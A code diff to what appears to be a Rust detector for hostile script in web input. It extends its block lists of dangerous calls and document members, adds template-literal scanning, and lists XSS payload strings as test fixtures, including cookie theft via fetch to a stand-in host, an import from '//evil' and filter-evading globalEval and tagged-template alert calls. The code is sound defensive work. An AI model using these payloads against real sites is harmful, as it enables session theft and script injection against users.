@@ -37,6 +37,8 @@ const CALLABLE: &[&[u8]] = &[
     b"import",
     b"importscripts",
     b"atob",
+    b"btoa",
+    b"globaleval",
     b"fromcharcode",
     b"constructor",
     b"write",
@@ -70,6 +72,24 @@ const GLOBALS: &[&[u8]] = &[
 /// Properties that leak or navigate when read or written on `document`,
 /// `window` and friends.
 const SENSITIVE: &[&[u8]] = &[b"cookie", b"domain", b"location", b"write", b"writeln"];
+
+/// Members of `document` that read or rewrite the page: a value that is a
+/// script using them is DOM manipulation.
+const DOCUMENT: &[&[u8]] = &[
+    b"body",
+    b"head",
+    b"documentelement",
+    b"createelement",
+    b"queryselector",
+    b"queryselectorall",
+    b"getelementbyid",
+    b"getelementsbytagname",
+    b"getelementsbyname",
+    b"forms",
+    b"url",
+    b"referrer",
+    b"execcommand",
+];
 
 /// Words followed by `(` that are syntax, not calls.
 const KEYWORDS: &[&[u8]] = &[
@@ -235,6 +255,11 @@ struct Pending {
 
 /// Finds hostile script in `src[range]`; returns the evidence span.
 pub(crate) fn hostile(src: &[u8], range: Range<usize>, mode: Mode) -> Option<Range<usize>> {
+    scan(src, range, mode, 2)
+}
+
+/// [`hostile`], entering template literals at most `depth` deep.
+fn scan(src: &[u8], range: Range<usize>, mode: Mode, depth: u8) -> Option<Range<usize>> {
     let end = range.end.min(src.len());
     let src = &src[..end];
     let lexer = Lexer {
@@ -267,6 +292,8 @@ pub(crate) fn hostile(src: &[u8], range: Range<usize>, mode: Mode) -> Option<Ran
                 Kind::Punct(b'(') | Kind::Template => return Some(pd.start..tok.span.end),
                 Kind::Punct(b')') => {}
                 Kind::Punct(b'.') => {}
+                // `self['$']['globalEval'](...)`: a chain of computed members.
+                Kind::Punct(b'[') => {}
                 Kind::Ident if is_in(&[b"call", b"apply", b"bind"], text) => {}
                 Kind::Punct(b',' | b';' | b']' | b'}') if pd.as_value => {
                     return Some(pd.start..tok.span.end)
@@ -279,9 +306,10 @@ pub(crate) fn hostile(src: &[u8], range: Range<usize>, mode: Mode) -> Option<Ran
                 let after_dot = prev.as_ref().is_some_and(|p| p.kind == Kind::Punct(b'.'));
                 if let Some(obj) = member_of.take() {
                     let obj_name = &src[obj.clone()];
+                    let document = obj_name.eq_ignore_ascii_case(b"document");
                     if after_dot
-                        && (obj_name.eq_ignore_ascii_case(b"document") || is_in(GLOBALS, obj_name))
-                        && is_in(SENSITIVE, text)
+                        && ((document || is_in(GLOBALS, obj_name)) && is_in(SENSITIVE, text)
+                            || document && is_in(DOCUMENT, text))
                     {
                         return Some(obj.start..tok.span.end);
                     }
@@ -290,7 +318,7 @@ pub(crate) fn hostile(src: &[u8], range: Range<usize>, mode: Mode) -> Option<Ran
                     let as_value = prev.as_ref().is_some_and(|p| {
                         matches!(
                             p.kind,
-                            Kind::Punct(b'=' | b',' | b'(' | b':' | b'?' | b'|' | b'&')
+                            Kind::Punct(b'=' | b',' | b'(' | b':' | b'?' | b'|' | b'&' | b'{')
                         )
                     }) && !after_dot;
                     pending = Some(Pending {
@@ -321,10 +349,19 @@ pub(crate) fn hostile(src: &[u8], range: Range<usize>, mode: Mode) -> Option<Ran
                     }
                 }
             }
+            Kind::Template if depth > 0 => {
+                // `${alert}` and calls inside a template literal run too.
+                let inner =
+                    tok.span.start + 1..tok.span.end.saturating_sub(1).max(tok.span.start + 1);
+                if let Some(found) = scan(src, inner, Mode::Strict, depth - 1) {
+                    return Some(found);
+                }
+            }
             Kind::Punct(b'[') => {
-                global_index = prev
-                    .as_ref()
-                    .is_some_and(|p| p.kind == Kind::Ident && is_in(GLOBALS, &src[p.span.clone()]));
+                global_index = pending.is_some()
+                    || prev.as_ref().is_some_and(|p| {
+                        p.kind == Kind::Ident && is_in(GLOBALS, &src[p.span.clone()])
+                    });
                 bracket = Some((tok.span.start, true));
                 folded.clear();
             }
@@ -413,6 +450,10 @@ mod tests {
             "String.fromCharCode(88)",
             "import('//evil')",
             "fetch('//x?'+document.cookie)",
+            "self['$']['globalEval']('alert(1)')",
+            "[].sort.call`${alert}1337`",
+            "document /*x*/ . cookie",
+            "document.body.appendChild(x)",
         ] {
             assert!(strict(s), "{s}");
         }
